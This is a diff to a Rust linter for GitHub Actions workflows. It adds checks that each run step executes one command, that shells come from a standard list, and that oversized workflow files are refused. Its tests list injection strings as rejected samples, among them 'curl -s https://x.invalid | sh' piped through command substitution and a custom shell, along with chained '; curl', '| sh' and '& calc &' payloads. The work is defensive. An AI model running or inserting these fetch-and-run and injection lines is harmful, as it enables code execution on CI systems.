@@ -8,6 +8,12 @@
 //!   set-up line from [`SETUP_COMMANDS`]; the logic lives in xtask, where it is tested.
 //! - **no expressions in run**: no `${{ … }}` inside `run:` (a value that may come from a
 //!   user reaches the shell through `env:` instead).
+//! - **one command per run**: no command substitution (`$(`, backticks), no `$IFS`, no
+//!   `;` `|` `&` `<` `>` `(` `)` outside quotes, no escapes (backslash; caret under cmd),
+//!   no unclosed or typographic quotes, no control characters.
+//! - **standard shells**: every `shell:` (a step's, a job's or the workflow's
+//!   `defaults.run.shell`) is one of [`SHELLS`].
+//! - **bounded files**: a workflow file over [`MAX_WORKFLOW_BYTES`] is refused unread.
 //! - **no persisted credentials**: `actions/checkout` runs with `persist-credentials: false`.
 //! - **concurrency**: the workflow sets `concurrency` (at the top, or on every job); a
 //!   reusable workflow (only `workflow_call`) runs in its caller's group instead.
@@ -17,6 +23,7 @@
 #![warn(missing_docs)]
 
 use std::fmt;
+use std::io::Read;
 
 use camino::{Utf8Path, Utf8PathBuf};
 use saphyr::{LoadableYamlNode, MarkedYamlOwned as Node, ScalarOwned, YamlDataOwned};
@@ -29,6 +36,10 @@ pub const SETUP_COMMANDS: [&str; 5] = [
     "cargo build ",
     "rustup ",
 ];
+
+/// The values `shell:` may take: GitHub's own shells. A custom one (`bash -e {0}`,
+/// `sh -c '...' {0}`) is a command line of its own around every step.
+pub const SHELLS: [&str; 6] = ["bash", "sh", "pwsh", "python", "cmd", "powershell"];
 
 /// The write scopes a job may hold, and the steps that need each: an action (by
 /// `owner/repo`) or a `cargo xtask` task line prefix (`release ` is the whole release,
@@ -45,6 +56,11 @@ pub const WRITE_SCOPES: [(&str, &[&str]); 3] = [
 /// Task lines that a prefix of [`WRITE_SCOPES`] covers but that write nothing: they never
 /// justify a write scope.
 pub const READ_ONLY_TASKS: [&str; 2] = ["cargo xtask release plan", "cargo xtask release build"];
+
+/// The largest workflow file read. GitHub's workflows are a few kilobytes; parsing
+/// YAML takes about forty times its size in memory, so a file of 50 MB would take
+/// gigabytes before any rule could say it is wrong.
+pub const MAX_WORKFLOW_BYTES: u64 = 2 << 20;
 
 /// One broken rule.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -79,12 +95,25 @@ impl fmt::Display for Finding {
 #[derive(Debug, thiserror::Error)]
 pub enum WorkflowError {
     /// Reading the file or the directory failed.
-    #[error("cannot read {path}: {source}")]
+    // `reason`, not `source`: said once, in this message, rather than again as its cause.
+    #[error("cannot read {path}: {reason}")]
     Io {
         /// The file or directory.
         path: Utf8PathBuf,
         /// The reason.
-        source: std::io::Error,
+        reason: std::io::Error,
+    },
+    /// Larger than [`MAX_WORKFLOW_BYTES`]: refused before it is read or parsed.
+    #[error(
+        "{path} is {size} bytes: workflow files over {MAX_WORKFLOW_BYTES} bytes ({} MiB) are \
+         refused before parsing; split it into smaller workflows",
+        MAX_WORKFLOW_BYTES >> 20
+    )]
+    TooLarge {
+        /// The file.
+        path: Utf8PathBuf,
+        /// Its size, or at least how much of it was read.
+        size: u64,
     },
     /// Not YAML, or not a workflow.
     #[error("{path}: {message}")]
@@ -117,17 +146,42 @@ pub struct Workflow {
 }
 
 impl Workflow {
-    /// Reads and parses the workflow at `path`.
+    /// Reads and parses the workflow at `path`; a file over [`MAX_WORKFLOW_BYTES`] is
+    /// refused before it is read.
     pub fn read(path: &Utf8Path) -> Result<Self, WorkflowError> {
-        let source = std::fs::read_to_string(path).map_err(|source| WorkflowError::Io {
+        let io = |reason| WorkflowError::Io {
             path: path.to_owned(),
-            source,
-        })?;
+            reason,
+        };
+        let too_large = |size| WorkflowError::TooLarge {
+            path: path.to_owned(),
+            size,
+        };
+        let file = std::fs::File::open(path).map_err(io)?;
+        let size = file.metadata().map_err(io)?.len();
+        if size > MAX_WORKFLOW_BYTES {
+            return Err(too_large(size));
+        }
+        // Bounded whatever the size said (a pipe, a file still growing).
+        let mut source = String::new();
+        file.take(MAX_WORKFLOW_BYTES + 1)
+            .read_to_string(&mut source)
+            .map_err(io)?;
+        if source.len() as u64 > MAX_WORKFLOW_BYTES {
+            return Err(too_large(source.len() as u64));
+        }
         Self::parse(path, source)
     }
 
-    /// Parses `source`; `path` names it in findings.
+    /// Parses `source`; `path` names it in findings. Over [`MAX_WORKFLOW_BYTES`] it is
+    /// refused unparsed.
     pub fn parse(path: &Utf8Path, source: String) -> Result<Self, WorkflowError> {
+        if source.len() as u64 > MAX_WORKFLOW_BYTES {
+            return Err(WorkflowError::TooLarge {
+                path: path.to_owned(),
+                size: source.len() as u64,
+            });
+        }
         let invalid = |message: String| WorkflowError::Invalid {
             path: path.to_owned(),
             message,
@@ -292,6 +346,9 @@ impl Workflow {
 
     fn check_workflow_level(&self, findings: &mut Vec<Finding>) {
         let top = &self.root;
+        if let Some(shell) = default_shell(top) {
+            self.check_shell(shell, None, None, "defaults.run.shell", findings);
+        }
         match top.data.as_mapping_get("permissions") {
             None => findings.push(self.finding(
                 1,
@@ -334,6 +391,11 @@ impl Workflow {
         if let Some(uses) = job.data.as_mapping_get("uses") {
             self.check_uses(uses, job_id, None, findings);
         }
+        let job_shell = default_shell(job);
+        if let Some(shell) = job_shell {
+            self.check_shell(shell, Some(job_id), None, "defaults.run.shell", findings);
+        }
+        let job_shell = job_shell.or_else(|| default_shell(&self.root));
         let mut needs: Vec<String> = Vec::new();
         for (label, step) in steps(job) {
             if let Some(uses) = step.data.as_mapping_get("uses") {
@@ -356,10 +418,18 @@ impl Workflow {
                     }
                 }
             }
+            let step_shell = step.data.as_mapping_get("shell");
+            if let Some(shell) = step_shell {
+                self.check_shell(shell, Some(job_id), Some(&label), "shell", findings);
+            }
             if let Some(run) = step.data.as_mapping_get("run") {
                 let command = run.data.as_str().unwrap_or_default();
                 needs.push(command.trim().to_owned());
-                if let Some(message) = run_problem(command) {
+                let quoting = match step_shell.or(job_shell).map(scalar_text).as_deref() {
+                    Some("cmd") => Quoting::Cmd,
+                    _ => Quoting::Posix,
+                };
+                if let Some(message) = run_problem(command, quoting) {
                     findings.push(self.finding(
                         run.span.start.line(),
                         Some(job_id),
@@ -395,6 +465,29 @@ impl Workflow {
                     ));
                 }
             }
+        }
+    }
+
+    /// A `shell:` (`key` names where it is) must be one of [`SHELLS`].
+    fn check_shell(
+        &self,
+        shell: &Node,
+        job: Option<&str>,
+        step: Option<&str>,
+        key: &str,
+        findings: &mut Vec<Finding>,
+    ) {
+        let value = scalar_text(shell);
+        if !SHELLS.contains(&value.as_str()) {
+            findings.push(self.finding(
+                shell.span.start.line(),
+                job,
+                step,
+                format!(
+                    "{key}: `{value}` is not one of {}: a custom shell runs the step through a command line of its own",
+                    SHELLS.join(", ")
+                ),
+            ));
         }
     }
 
@@ -449,14 +542,90 @@ impl Workflow {
     }
 }
 
+/// `defaults.run.shell` of a workflow or a job.
+fn default_shell(node: &Node) -> Option<&Node> {
+    node.data
+        .as_mapping_get("defaults")?
+        .data
+        .as_mapping_get("run")?
+        .data
+        .as_mapping_get("shell")
+}
+
+/// How a step's shell quotes: cmd knows double quotes only; bash, sh, PowerShell (and
+/// the default, bash or pwsh by runner) single and double quotes.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Quoting {
+    Posix,
+    Cmd,
+}
+
+/// What in a one-line `run:` could make the shell run anything but the one command it
+/// starts with, each kind once, in the order found. Checked for every shell at once
+/// where they differ: escapes (backslash, backtick, caret) are refused rather than
+/// interpreted, and so is anything PowerShell reads as a quote.
+fn shell_problems(command: &str, quoting: Quoting) -> Vec<String> {
+    let mut problems: Vec<String> = Vec::new();
+    let mut add = |problem: String| {
+        if !problems.contains(&problem) {
+            problems.push(problem);
+        }
+    };
+    // Wherever they are: inside quotes too, the shell or PowerShell runs them.
+    if command.contains("$(") {
+        add("`$(` (command substitution)".into());
+    }
+    if command.contains('`') {
+        add("a backtick (command substitution, or PowerShell's escape)".into());
+    }
+    if command.contains("$IFS") || command.contains("${IFS") {
+        add("`$IFS` (a separator the shell makes from a variable)".into());
+    }
+    if command.contains([
+        '\u{2018}', '\u{2019}', '\u{201a}', '\u{201b}', '\u{201c}', '\u{201d}', '\u{201e}',
+    ]) {
+        add("a typographic quote (PowerShell reads it as a quote)".into());
+    }
+    if command.chars().any(|c| c.is_control() && c != '\t') {
+        add("a control character".into());
+    }
+    let mut quote = None;
+    for c in command.chars() {
+        match (quote, c) {
+            (Some('\''), '\'') | (Some('"'), '"') => quote = None,
+            (Some('"'), '\\') => add("a backslash (shells escape differently)".into()),
+            (Some(_), _) => {}
+            (None, '\'') if quoting == Quoting::Posix => quote = Some(c),
+            (None, '"') => quote = Some(c),
+            (None, ';' | '|' | '&' | '<' | '>' | '(' | ')') => {
+                add(format!("`{c}` outside quotes"));
+            }
+            (None, '\\') => add("a backslash (shells escape differently)".into()),
+            (None, '^') if quoting == Quoting::Cmd => add("a caret (cmd's escape)".into()),
+            (None, _) => {}
+        }
+    }
+    if quote.is_some() {
+        add("an unclosed quote".into());
+    }
+    problems
+}
+
 /// What is wrong with a `run:` command, if anything.
-fn run_problem(command: &str) -> Option<String> {
+fn run_problem(command: &str, quoting: Quoting) -> Option<String> {
     let command = command.trim();
     if command.contains("${{") {
         return Some("`${{ }}` inside run: pass the value through `env:` and use the variable, so that no input is pasted into the shell".into());
     }
     if command.lines().count() > 1 {
         return Some("a multi-line script: put the logic in a cargo xtask task, where it is tested; a step runs one command".into());
+    }
+    let problems = shell_problems(command, quoting);
+    if !problems.is_empty() {
+        return Some(format!(
+            "`{command}` holds {}: a step runs one command: pass values through `env:` and quote them (\"$NAME\")",
+            problems.join(", ")
+        ));
     }
     let allowed = command.starts_with("cargo xtask ")
         || SETUP_COMMANDS
@@ -566,9 +735,9 @@ fn scalar_text(node: &Node) -> String {
 
 /// Every workflow file (`*.yml`, `*.yaml`) of `dir`, sorted.
 pub fn workflow_files(dir: &Utf8Path) -> Result<Vec<Utf8PathBuf>, WorkflowError> {
-    let io = |source| WorkflowError::Io {
+    let io = |reason| WorkflowError::Io {
         path: dir.to_owned(),
-        source,
+        reason,
     };
     let mut files: Vec<Utf8PathBuf> = dir
         .read_dir_utf8()
@@ -801,6 +970,174 @@ jobs:
                 "ci.yml:16: job gate, step Gate: `deno task ci` is neither a cargo xtask call nor a set-up line (cargo fmt, cargo clippy, cargo test, cargo build, rustup): do the work in a task"
             ]
         );
+    }
+
+    /// The message of the one finding of `GOOD` with `run: cargo xtask ci` made `run`.
+    fn run_finding(run: &str) -> String {
+        let found = check(&with("run: cargo xtask ci", &format!("run: {run}")));
+        assert_eq!(found.len(), 1, "{run}: {found:#?}");
+        found[0]
+            .strip_prefix("ci.yml:16: job gate, step Gate: ")
+            .unwrap_or_else(|| panic!("{}", found[0]))
+            .to_owned()
+    }
+
+    #[test]
+    fn run_steps_run_one_command_whatever_the_quoting() {
+        let finding =
+            run_finding(r#"cargo xtask coverage --base "$(curl -s https://x.invalid | sh)""#);
+        assert!(finding.contains("`$(` (command substitution)"), "{finding}");
+        for (run, what) in [
+            ("cargo xtask ci `id`", "a backtick"),
+            ("cargo xtask ci \"`id`\"", "a backtick"),
+            ("cargo xtask ci $(id)", "`$(` (command substitution)"),
+            ("cargo xtask ci '$(id)'", "`$(` (command substitution)"),
+            ("cargo xtask ci $((1+1))", "`$(` (command substitution)"),
+            ("cargo xtask ci$IFS-x", "`$IFS`"),
+            ("cargo xtask ci${IFS}-x", "`$IFS`"),
+            ("cargo xtask ci \"${IFS}\"", "`$IFS`"),
+            ("cargo xtask ci; curl x.invalid", "`;` outside quotes"),
+            ("cargo xtask ci && curl x.invalid", "`&` outside quotes"),
+            ("cargo xtask ci & curl x.invalid", "`&` outside quotes"),
+            ("cargo xtask ci | sh", "`|` outside quotes"),
+            ("cargo xtask ci || sh", "`|` outside quotes"),
+            ("cargo xtask ci \"a\";id", "`;` outside quotes"),
+            ("cargo xtask ci > $GITHUB_ENV", "`>` outside quotes"),
+            ("cargo xtask ci < /dev/null", "`<` outside quotes"),
+            ("cargo xtask ci <(curl x.invalid)", "`<` outside quotes"),
+            ("cargo xtask ci (iex x)", "`(` outside quotes"),
+            ("cargo xtask ci \\; id", "a backslash"),
+            ("cargo xtask ci \"\\\"; id; \\\"\"", "a backslash"),
+            ("cargo xtask ci \"unclosed", "an unclosed quote"),
+            ("cargo xtask ci 'unclosed", "an unclosed quote"),
+            ("cargo xtask ci \u{2018}; id\u{2019}", "a typographic quote"),
+            (
+                "cargo xtask ci '\u{2018} ; id ; \u{2018}'",
+                "a typographic quote",
+            ),
+            ("cargo xtask ci\u{7}x", "a control character"),
+        ] {
+            // Single-quoted in the YAML, so that the run line is exactly `run`.
+            let finding = run_finding(&format!("'{}'", run.replace('\'', "''")));
+            assert!(finding.contains(what), "{run}: {finding}");
+            assert!(
+                finding.ends_with(
+                    "a step runs one command: pass values through `env:` and quote them (\"$NAME\")"
+                ),
+                "{run}: {finding}"
+            );
+        }
+        // What the shell only passes on as arguments.
+        for run in [
+            "cargo xtask release \"$VERSION\" --ref \"${REF}\"",
+            "cargo xtask ci 'a;b|c&d' \"e;f|g&h>i<j(k)\"",
+            "cargo xtask release publish dist --ref \"$COMMIT\" # zizmor: ignore[use-trusted-publishing]",
+            "cargo clippy --workspace --all-targets --locked -- -D warnings",
+        ] {
+            assert_eq!(
+                check(&with(
+                    "run: cargo xtask ci",
+                    &format!("run: '{}'", run.replace('\'', "''"))
+                )),
+                Vec::<String>::new(),
+                "{run}"
+            );
+        }
+    }
+
+    #[test]
+    fn cmd_reads_single_quotes_as_plain_characters() {
+        let step = "      - name: Gate\n        run: cargo xtask ci\n";
+        let found = check(&with(
+            step,
+            "      - name: Gate\n        shell: cmd\n        run: cargo xtask ci '& calc &'\n",
+        ));
+        assert_eq!(found.len(), 1, "{found:#?}");
+        assert!(found[0].contains("`&` outside quotes"), "{}", found[0]);
+        let found = check(&with(
+            step,
+            "      - name: Gate\n        shell: cmd\n        run: cargo xtask ci ^\" ^& calc\n",
+        ));
+        assert_eq!(found.len(), 1, "{found:#?}");
+        assert!(found[0].contains("a caret"), "{}", found[0]);
+    }
+
+    #[test]
+    fn only_the_standard_shells() {
+        let custom = "\"sh -c 'curl -s https://x.invalid | sh' {0}\"";
+        let refused = "is not one of bash, sh, pwsh, python, cmd, powershell: a custom shell \
+                       runs the step through a command line of its own";
+        assert_eq!(
+            check(&with(
+                "      - name: Gate\n",
+                &format!("      - name: Gate\n        shell: {custom}\n")
+            )),
+            [format!(
+                "ci.yml:16: job gate, step Gate: shell: `sh -c 'curl -s https://x.invalid | sh' {{0}}` {refused}"
+            )]
+        );
+        assert_eq!(
+            check(&with(
+                "    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout",
+                &format!(
+                    "    runs-on: ubuntu-24.04\n    defaults:\n      run:\n        shell: {custom}\n    steps:\n      - uses: actions/checkout"
+                )
+            )),
+            [format!(
+                "ci.yml:13: job gate: defaults.run.shell: `sh -c 'curl -s https://x.invalid | sh' {{0}}` {refused}"
+            )]
+        );
+        assert_eq!(
+            check(&with(
+                "jobs:\n",
+                "defaults:\n  run:\n    shell: bash -e {0}\njobs:\n"
+            )),
+            [format!(
+                "ci.yml:9: defaults.run.shell: `bash -e {{0}}` {refused}"
+            )]
+        );
+        for shell in ["bash", "sh", "pwsh", "python", "cmd", "powershell"] {
+            assert_eq!(
+                check(&with(
+                    "      - name: Gate\n",
+                    &format!("      - name: Gate\n        shell: {shell}\n")
+                )),
+                Vec::<String>::new(),
+                "{shell}"
+            );
+        }
+        let expression = check(&with(
+            "      - name: Gate\n",
+            "      - name: Gate\n        shell: ${{ inputs.shell }}\n",
+        ));
+        assert_eq!(expression.len(), 1, "{expression:#?}");
+        assert!(expression[0].contains(refused), "{}", expression[0]);
+    }
+
+    #[test]
+    fn workflow_files_over_the_limit_are_refused_before_parsing() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = Utf8Path::from_path(dir.path()).unwrap().join("big.yml");
+        // 50 MB that would take gigabytes to parse; sparse, so the test writes nothing.
+        let file = std::fs::File::create(&path).unwrap();
+        file.set_len(50 << 20).unwrap();
+        let error = Workflow::read(&path).err().unwrap();
+        assert!(matches!(error, WorkflowError::TooLarge { .. }), "{error:?}");
+        assert_eq!(
+            error.to_string(),
+            format!(
+                "{path} is 52428800 bytes: workflow files over 2097152 bytes (2 MiB) are \
+                 refused before parsing; split it into smaller workflows"
+            )
+        );
+        let error = Workflow::parse(&path, "#".repeat((2 << 20) + 1))
+            .err()
+            .unwrap();
+        assert!(matches!(error, WorkflowError::TooLarge { .. }), "{error:?}");
+        let at_the_limit = format!("jobs: {{}}\n{}\n", "#".repeat((2 << 20) - 10));
+        assert_eq!(at_the_limit.len(), 2 << 20);
+        std::fs::write(&path, &at_the_limit).unwrap();
+        Workflow::read(&path).unwrap();
     }
 
     #[test]
